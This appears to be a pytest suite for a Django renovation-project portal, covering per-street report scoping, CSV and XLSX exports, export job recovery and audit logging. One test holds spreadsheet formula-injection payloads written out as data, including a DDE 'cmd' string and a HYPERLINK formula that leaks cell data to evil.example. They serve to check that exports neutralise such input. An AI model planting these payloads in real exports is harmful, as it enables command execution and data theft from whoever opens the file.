"""/reports/: scoping (a street never sees another's rows), CSV equal to the database, XLSX built by
the job (progress, re-run after a crash), downloads only for the requester; the audit trail."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from auditlog.models import LogEntry
from django.contrib.contenttypes.models import ContentType
from django.db import connection
from django.db.models import Sum
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from disclosure.models import LedgerEntry
from portal import services
from portal.models import ExportJob
from portal.reports import REPORTS, Filters
from projects.models import Project
from stakeholders.models import User
from tests.disclosure.conftest import adopted_project, award, expense, income, publish_budget
from tests.projects.conftest import owners  # noqa: F401


def read_csv(response) -> list[dict]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


@pytest.fixture
def two_streets(city):
    """A contracted project with a ledger in street A (estate a1) and one in street B (b1)."""
    a = adopted_project(city)
    publish_budget(city, a)
    award(city, a)
    for k in range(5):
        income(city, a, amount=f"{1000 + k}.50")
    expense(city, a, amount="700.25")
    from projects import services as project_services

    b_project = project_services.project_create(estate=city.estate_b1, title="乙一小区改造", actor=None)
    return a.project, b_project


@pytest.mark.django_db
def test_street_staff_export_only_their_street(client, city, two_streets):
    a_project, b_project = two_streets
    client.force_login(city.street_a_staff)
    rows = read_csv(client.get(reverse("report_csv", args=["projects"])))
    codes = {r[0] for r in rows[1:]}
    assert a_project.code in codes and b_project.code not in codes
    # Direct URL attempts at street B: 404, never B's rows.
    assert client.get(reverse("report_csv", args=["projects"]) + f"?street={city.street_b.pk}").status_code == 404
    assert client.get(reverse("reports") + f"?street={city.street_b.pk}").status_code == 404
    assert client.post(reverse("report_xlsx", args=["ledger"]), {"street": city.street_b.pk}).status_code == 404
    client.force_login(city.street_b_staff)
    rows = read_csv(client.get(reverse("report_csv", args=["ledger"])))
    assert rows[1:] == []  # street B has no ledger; A's 6 entries never appear
    client.force_login(city.bureau)
    codes = {r[0] for r in read_csv(client.get(reverse("report_csv", args=["projects"])))[1:]}
    assert {a_project.code, b_project.code} <= codes


@pytest.mark.django_db
def test_who_may_open_reports(client, city):
    for user, status in [
        (city.comm_a1_staff, 403),
        (city.contractor, 403),
        (city.owner_a1.user, 403),
        (city.street_a_staff, 200),
        (city.bureau, 200),
        (city.admin, 200),
    ]:
        client.force_login(user)
        assert client.get(reverse("reports")).status_code == status, user
        assert client.get(reverse("report_csv", args=["ledger"])).status_code == status, user
    client.logout()
    assert client.get(reverse("reports")).status_code == 302
    client.force_login(city.bureau)
    assert client.get(reverse("report_csv", args=["nope"])).status_code == 404


@pytest.mark.django_db
def test_csv_equals_the_database(client, city, two_streets):
    client.force_login(city.bureau)
    rows = read_csv(client.get(reverse("report_csv", args=["ledger"])))
    header, data = rows[0], rows[1:]
    from django.utils import translation

    with translation.override("zh-hans"):
        assert header == [str(label) for _code, label in REPORTS["ledger"].columns]
    assert len(data) == LedgerEntry.objects.count() == 6
    amount = [code for code, _label in REPORTS["ledger"].columns].index("amount")
    assert sum(Decimal(r[amount]) for r in data) == LedgerEntry.objects.aggregate(s=Sum("amount"))["s"]
    assert {r[-1] for r in data} == set(LedgerEntry.objects.values_list("hash", flat=True))
    # Filters: a date range and a status.
    today = timezone.localdate()
    only_today = read_csv(client.get(reverse("report_csv", args=["ledger"]) + f"?date_from={today}&date_to={today}"))
    assert len(only_today) - 1 == LedgerEntry.objects.filter(date=today).count() == 1
    none = read_csv(client.get(reverse("report_csv", args=["ledger"]) + "?status=completed"))
    assert none[1:] == []
    bad = client.get(reverse("report_csv", args=["ledger"]) + f"?date_from={today}&date_to={today - timedelta(days=1)}")
    assert bad.status_code == 302
    assert client.get(bad["Location"]).status_code == 400
    for code in REPORTS:
        response = client.get(reverse("report_csv", args=[code]))
        assert response.status_code == 200 and read_csv(response)[0], code


@pytest.mark.django_db
def test_ledger_csv_from_copy_is_the_same_csv_as_the_cursor_path(client, city, two_streets, settings):
    """On PostgreSQL the ledger CSV is COPY's output; parsed, it is cell for cell what the
    server-side-cursor writer gives — quotes, commas, line breaks, Chinese, empty memos, reversals."""
    from disclosure import services as money
    from portal.exports import copy_stream, csv_stream

    project = two_streets[0]
    w = type("W", (), {"project": project})
    tricky = income(city, w, amount="88.80", memo='他说："屋顶, 漏水"\n第二行')
    money.ledger_reverse(entry=tricky, actor=city.street_a_staff, memo="录入错误，冲销")
    income(city, w, amount="0.10", memo="tab\there")
    report, filters = REPORTS["ledger"], Filters()
    header = [str(h) for _c, h in report.columns]
    sql = report.copy_sql(filters)
    if connection.vendor != "postgresql":
        assert sql is None
        pytest.skip("COPY is PostgreSQL's")
    via_copy = b"".join(copy_stream(header, *sql)).decode("utf-8")
    via_cursor = "".join(csv_stream(header, report.rows(filters)))
    assert via_copy.startswith("\ufeff") and via_cursor.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(via_copy[1:])))
    assert rows == list(csv.reader(io.StringIO(via_cursor[1:])))
    assert len(rows) - 1 == LedgerEntry.objects.count() == 9
    memo = [code for code, _label in report.columns].index("memo")
    assert {r[memo] for r in rows[1:]} >= {'他说："屋顶, 漏水"\n第二行', "录入错误，冲销", "tab\there", ""}
    # and the view serves the COPY path
    client.force_login(city.bureau)
    assert read_csv(client.get(reverse("report_csv", args=["ledger"]))) == rows


@pytest.mark.django_db
def test_xlsx_job_builds_a_file_only_its_requester_downloads(
    client, city, two_streets, django_capture_on_commit_callbacks
):
    client.force_login(city.street_a_staff)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("report_xlsx", args=["ledger"]), {"status": ""})
    job = ExportJob.objects.get()
    assert response.status_code == 302 and response["Location"] == reverse("export_job", args=[job.pk])
    assert (job.status, job.rows_done, job.rows_total, job.percent) == ("done", 6, 6, 100)
    page = client.get(reverse("export_job", args=[job.pk]), headers={"HX-Request": "true"}).content.decode()
    assert 'data-status="done"' in page and "hx-trigger" not in page
    download = client.get(reverse("export_download", args=[job.pk]))
    assert download.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(download.streaming_content)), read_only=True).active
    values = list(sheet.iter_rows(values_only=True))
    assert len(values) == 7 and values[0][0] == "改造项目"
    assert round(sum(Decimal(str(v[4])) for v in values[1:]), 2) == LedgerEntry.objects.aggregate(s=Sum("amount"))["s"]
    csv_rows = read_csv(client.get(reverse("report_csv", args=["ledger"])))
    assert [r[1] for r in csv_rows[1:]] == [str(v[1]) for v in values[1:]]
    # Another user — even of the same street office — gets a 404; an admin may.
    client.force_login(city.street_a_manager)
    assert client.get(reverse("export_job", args=[job.pk])).status_code == 404
    assert client.get(reverse("export_download", args=[job.pk])).status_code == 404
    client.force_login(city.admin)
    assert client.get(reverse("export_download", args=[job.pk])).status_code == 200
    # After its kept time the file is deleted.
    assert services.exports_purge(now=timezone.now() + timedelta(days=30)) == 1
    client.force_login(city.street_a_staff)
    assert client.get(reverse("export_download", args=[job.pk])).status_code == 410


@pytest.mark.django_db
def test_an_export_interrupted_by_a_worker_crash_is_rebuilt_the_same(city, two_streets, tmp_path):
    from portal.tasks import build_export

    job = ExportJob.objects.create(requested_by=city.bureau, report="ledger", filters=Filters().as_json())
    # What a worker killed half-way leaves behind: the job running, part of the rows counted.
    ExportJob.objects.filter(pk=job.pk).update(
        status="running", rows_total=6, rows_done=3, attempts=1, started_at=timezone.now()
    )
    assert build_export.apply(args=(str(job.pk),), throw=True).get() == "done"
    job.refresh_from_db()
    with job.file.open("rb") as handle:
        first = handle.read()
    assert (job.rows_done, job.attempts) == (6, 2)
    # Re-delivered once more: a finished job is left as it is.
    assert build_export.apply(args=(str(job.pk),), throw=True).get() == "done"
    job.refresh_from_db()
    assert job.attempts == 2
    with job.file.open("rb") as handle:
        assert handle.read() == first
    rows = list(load_workbook(io.BytesIO(first), read_only=True).active.iter_rows(values_only=True))
    assert len(rows) == 7


@pytest.mark.django_db
def test_reports_and_audit_pages_query_budgets_stay_flat(client, city, two_streets, django_assert_max_num_queries):
    client.force_login(city.bureau)

    def count(url):
        with CaptureQueriesContext(connection) as ctx:
            assert client.get(url).status_code == 200
        return len(ctx.captured_queries)

    job = ExportJob.objects.create(
        requested_by=city.bureau, report="ledger", filters={}, rows_total=10, rows_done=5, status="running"
    )
    urls = [
        reverse("reports"),
        reverse("audit"),
        reverse("audit") + f"?project={two_streets[0].code}",
        reverse("export_job", args=[job.pk]),
    ]
    for url in urls:  # warm the process's own caches (the catalog's names), as a running server has them
        count(url)
    small = [count(u) for u in urls]
    a_project = two_streets[0]
    for k in range(10):
        income(city, type("P", (), {"project": a_project})(), amount=f"{k + 1}.00")
        ExportJob.objects.create(requested_by=city.bureau, report="ledger", filters={})
    assert [count(u) for u in urls] == small
    for url in urls:
        with django_assert_max_num_queries(10):
            client.get(url)


# --- the audit trail ---------------------------------------------------------------------------------------


def entries_of(model, user=None):
    qs = LogEntry.objects.filter(content_type=ContentType.objects.get_for_model(model))
    return qs.filter(actor=user) if user is not None else qs


@pytest.mark.django_db
def test_audit_records_each_listed_change_with_its_actor(client, city, two_streets):
    from disclosure.models import Budget
    from feedback import services as voice
    from feedback.models import Complaint
    from projects.models import AcceptanceSignature, Award, CompletionReport, PlanItem, ProjectGroupObjectPermission
    from stakeholders.models import Ownership

    a_project, _b = two_streets
    # ownership verification (in the test setup, by the verifying admin)
    assert entries_of(Ownership, city.admin).filter(changes__icontains="verified").exists()
    # budget approval, award (with its permission grants), ledger
    budget = Budget.objects.get(project=a_project)
    assert entries_of(Budget, city.street_a_manager).filter(object_pk=str(budget.pk)).exists()
    assert entries_of(Award, city.street_a_manager).count() == 2
    assert entries_of(ProjectGroupObjectPermission, city.street_a_manager).count() >= 4
    assert entries_of(LedgerEntry, city.street_a_staff).count() == 6
    # project status, by service
    assert entries_of(Project, city.street_a_manager).filter(changes__icontains="contracted").exists()
    # a complaint's status
    Project.objects.filter(pk=a_project.pk).update(status=Project.Status.UNDER_CONSTRUCTION)
    a_project.refresh_from_db()
    complaint = voice.complaint_file(
        project=a_project, actor=User.objects.get(pk=city.owner_a1.user_id), category="quality", text="漏水"
    )
    voice.complaint_transition(complaint=complaint, to="acknowledged", actor=User.objects.get(pk=city.contractor.pk))
    assert entries_of(Complaint, city.contractor).filter(changes__icontains="acknowledged").exists()
    # acceptance, through the browser (the middleware records the signed-in user)
    client.force_login(city.contractor)
    items = list(PlanItem.objects.filter(version__project=a_project, version__status="adopted"))
    report = {"scope_done": "全部完工", "exception": "照明灯具到货延迟，其余完工"}
    for item in items:
        report |= {f"item_{item.pk}_quantity": str(item.quantity), f"item_{item.pk}_cost": str(item.estimated_cost)}
    assert client.post(reverse("projects:completion_report", args=[a_project.code]), report).status_code == 302
    assert entries_of(CompletionReport, city.contractor).count() == 1
    client.force_login(city.supervisor)
    client.post(
        reverse("projects:acceptance_sign", args=[a_project.code]),
        {"role": "supervisor", "decision": "agree", "opinion": "合格"},
    )
    assert entries_of(AcceptanceSignature, city.supervisor).count() == 1
    # admin actions are recorded too
    client.force_login(city.admin)
    org = city.contractor_org
    response = client.post(
        reverse("admin:stakeholders_organization_change", args=[org.pk]),
        {
            "kind": org.kind,
            "name": "施工公司（更名）",
            "group": org.group_id,
            "credit_code": "",
            "is_active": "on",
        },
    )
    assert response.status_code == 302, response.content.decode()[:3000]
    from stakeholders.models import Organization

    assert entries_of(Organization, city.admin).filter(changes__icontains="更名").exists()
    # Every entry about the project carries it, so the audit page filters by it.
    page = client.get(reverse("audit") + f"?project={a_project.code}").content.decode()
    assert "street_a_manager" in page and "supervisor" in page
    by_user = client.get(reverse("audit") + "?user=street_a_staff").content.decode()
    assert "street_a_manager" not in by_user and "street_a_staff" in by_user
    client.force_login(city.street_a_staff)
    assert client.get(reverse("audit")).status_code == 403


@pytest.mark.django_db
def test_votes_plans_and_petitions_are_audited(city, owners):
    from projects import services as p
    from projects.models import Petition, PlanVersion, Vote
    from tests.projects.conftest import project_at

    petition = p.petition_start(resident=city.owner_a1, estate=city.estate_a1, reason="屋面漏水")
    assert entries_of(Petition, city.owner_a1.user).count() == 1
    project = project_at(city, Project.Status.PLANNING)
    version = p.plan_version_start(project=project, actor=User.objects.get(pk=city.comm_a1_staff.pk))
    assert entries_of(PlanVersion, city.comm_a1_staff).count() == 1
    vote = p.vote_create(
        project=project,
        purpose="other",
        title="加装电梯",
        matter="special",
        opens_at=timezone.now(),
        closes_at=timezone.now() + timedelta(days=7),
        actor=User.objects.get(pk=city.street_a_manager.pk),
    )
    p.vote_open(vote=vote, actor=User.objects.get(pk=city.street_a_manager.pk))
    assert entries_of(Vote, city.street_a_manager).filter(changes__icontains="open").exists()
    assert petition.pk and version.pk


def _bulk_chain(project, clerk, first_seq: int, n: int, prev: str) -> str:
    """n more income entries on `project`, hash-chained as ledger_record would write them."""
    from disclosure import ledger

    rows, day = [], timezone.localdate()
    for seq in range(first_seq, first_seq + n):
        document = ledger.entry_document(
            project=project.code,
            seq=seq,
            date=day,
            kind="income",
            amount=Decimal("12.34"),
            counterparty="南宁市财政局",
            category="central_subsidy",
            memo="",
            reverses=None,
            prev_hash=prev,
        )
        prev = ledger.entry_hash(document)
        rows.append(
            LedgerEntry(
                project=project,
                seq=seq,
                date=day,
                kind="income",
                amount=Decimal("12.34"),
                counterparty="南宁市财政局",
                category="central_subsidy",
                prev_hash=document["prev_hash"],
                hash=prev,
                recorded_by=clerk,
            )
        )
    LedgerEntry.objects.bulk_create(rows, batch_size=5000)
    return prev


@pytest.mark.django_db
def test_ledger_csv_streams_in_constant_memory(client, city, two_streets):
    import tracemalloc

    from disclosure import ledger

    project = two_streets[0]
    head = (
        LedgerEntry.objects.filter(project=project).order_by("-seq").values_list("hash", flat=True).first()
        or ledger.ZERO_HASH
    )
    client.force_login(city.bureau)

    def stream_peak() -> tuple[int, int]:
        response = client.get(reverse("report_csv", args=["ledger"]))
        tracemalloc.start()
        lines = sum(chunk.count(b"\n") for chunk in response.streaming_content)
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return lines, peak

    head = _bulk_chain(project, city.street_a_staff, 7, 2_994, head)  # 3,000 entries
    small_lines, small_peak = stream_peak()
    _bulk_chain(project, city.street_a_staff, 3_001, 27_000, head)  # 30,000 entries
    big_lines, big_peak = stream_peak()
    assert (small_lines, big_lines) == (3_001, 30_001)
    assert big_peak - small_peak < 1_500_000, (small_peak, big_peak)  # 10× the rows, not 10× the memory


@pytest.mark.django_db
def test_city_scale_bureau_dashboard_and_reports_stay_within_budget(client, city, django_assert_max_num_queries):
    from portal import demo
    from portal.demo.scale import fill_projects_to_city_scale

    report = demo.Report()
    demo.fill_to_city_scale(report, targets={"estates": 120, "buildings": 600, "households": 12_000})
    fill_projects_to_city_scale(report, projects=100, ledger_entries=20)
    client.force_login(city.bureau)
    # 20 + the willingness surveys (3 aggregates) + integrity reports (1) + approvals waiting (1) + flagged awards (1)
    with django_assert_max_num_queries(26):
        page = client.get("/")
    html = page.content.decode()
    assert 'id="chart-city-status"' in html and 'id="chart-city-sources"' in html
    with django_assert_max_num_queries(10):
        assert client.get(reverse("reports")).status_code == 200
    rows = read_csv(client.get(reverse("report_csv", args=["projects"])))
    assert len(rows) - 1 == Project.objects.count()


@pytest.mark.django_db
def test_reports_read_in_beijing_days_one_money_format_and_words(client, city, two_streets):
    """Field test: 创建日期 was the UTC date (2026-12-01 for 2026-12-02 01:45 Beijing time), 结余 "0"
    beside "0.00", and codes (income, central_subsidy) where people read words."""
    from datetime import datetime
    from zoneinfo import ZoneInfo

    a, b = two_streets
    beijing_night = datetime(2026, 12, 2, 1, 45, tzinfo=ZoneInfo("Asia/Shanghai"))
    Project.objects.filter(pk=b.pk).update(created_at=beijing_night)
    client.force_login(city.bureau)
    rows = read_csv(client.get(reverse("report_csv", args=["projects"])))
    columns = [code for code, _label in REPORTS["projects"].columns]
    row_b = next(r for r in rows[1:] if r[0] == b.code)
    assert row_b[columns.index("created")] == "2026-12-02"
    assert row_b[columns.index("balance")] == "0.00"
    ledger = read_csv(client.get(reverse("report_csv", args=["ledger"])))
    kinds = {r[[c for c, _ in REPORTS["ledger"].columns].index("kind")] for r in ledger[1:]}
    categories = {r[[c for c, _ in REPORTS["ledger"].columns].index("category")] for r in ledger[1:]}
    assert kinds == {"收入", "支出"} and "中央补助资金" in categories and "central_subsidy" not in categories
    contractors = read_csv(client.get(reverse("report_csv", args=["contractors"])))
    assert "改造项目数" in contractors[0]


ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
]


@pytest.mark.django_db
def test_formulas_typed_into_the_ledger_or_progress_never_run_in_an_export(
    client, city, two_streets, django_capture_on_commit_callbacks
):
    """OWASP's CSV-injection rule: a text cell starting with = + - @ tab or CR is shown, never run —
    in the CSV (cursor and COPY paths alike) with a leading apostrophe, in the XLSX as a string cell.
    Amounts stay numbers, negative ones too."""
    from disclosure import services as money
    from tests.disclosure.test_public_pages import progress

    project = two_streets[0]
    w = type("W", (), {"project": project})
    for attack in ATTACKS:
        income(city, w, amount="1.00", memo=attack)
    entry = income(city, w, amount="2.00", memo="正常备注")
    money.ledger_reverse(entry=entry, actor=city.street_a_staff, memo="=1+1 冲销")
    money.ledger_record(  # the counterparty is typed too
        project=project,
        actor=city.street_a_staff,
        date=timezone.localdate(),
        kind="income",
        amount=Decimal("3.00"),
        counterparty="=cmd|' /C calc'!A0",
        source="central_subsidy",
    )
    progress(city, w, 10, text=ATTACKS[1])

    client.force_login(city.bureau)
    ledger = read_csv(client.get(reverse("report_csv", args=["ledger"])))
    memo = [code for code, _label in REPORTS["ledger"].columns].index("memo")
    memos = {r[memo] for r in ledger[1:]}
    assert {"'" + a for a in ATTACKS} <= memos and "'=1+1 冲销" in memos and "正常备注" in memos
    assert not any(m.startswith(("=", "+", "-", "@", "\t")) for m in memos)
    # The cursor path (SQLite, or a report PostgreSQL does not COPY) writes the same cells.
    from portal.exports import csv_stream

    report = REPORTS["ledger"]
    via_cursor = list(
        csv.reader(io.StringIO("".join(csv_stream([str(h) for _c, h in report.columns], report.rows(Filters())))[1:]))
    )
    assert via_cursor == ledger
    counterparty = [code for code, _label in REPORTS["ledger"].columns].index("counterparty")
    assert "'=cmd|' /C calc'!A0" in {r[counterparty] for r in ledger[1:]}
    # Amounts are numbers, exact, never prefixed.
    assert sorted(Decimal(r[4]) for r in ledger[1:]) == sorted(LedgerEntry.objects.values_list("amount", flat=True))
    progress_csv = read_csv(client.get(reverse("report_csv", args=["progress"])))
    assert "'" + ATTACKS[1] in {r[-1] for r in progress_csv[1:]}

    # XLSX: built by the job; no cell is a formula, the text is exactly what was typed.
    for code in ("ledger", "progress"):
        with django_capture_on_commit_callbacks(execute=True):
            client.post(reverse("report_xlsx", args=[code]), {"status": ""})
        job = ExportJob.objects.filter(report=code).latest("created_at")
        data = b"".join(client.get(reverse("export_download", args=[job.pk])).streaming_content)
        sheet = load_workbook(io.BytesIO(data)).active
        cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None]
        assert cells and all(c.data_type != "f" for c in cells)
        texts = {c.value for c in cells if c.data_type == "s"}
        assert (set(ATTACKS) if code == "ledger" else {ATTACKS[1]}) <= texts
        if code == "ledger":
            assert any(c.data_type == "n" for c in cells)  # amounts are numbers


def test_tab_and_carriage_return_starts_are_neutralised_too():
    """The services strip what people type, so these reach a cell only from elsewhere; the rule holds."""
    from portal.exports import csv_cell, neutralise

    assert neutralise("\t=1+1") == "'\t=1+1" and neutralise("\r=1") == "'\r=1" and neutralise("a=1") == "a=1"
    assert csv_cell(Decimal("-5.00")) == "-5.00" and csv_cell(-3) == "-3"  # numbers are never text
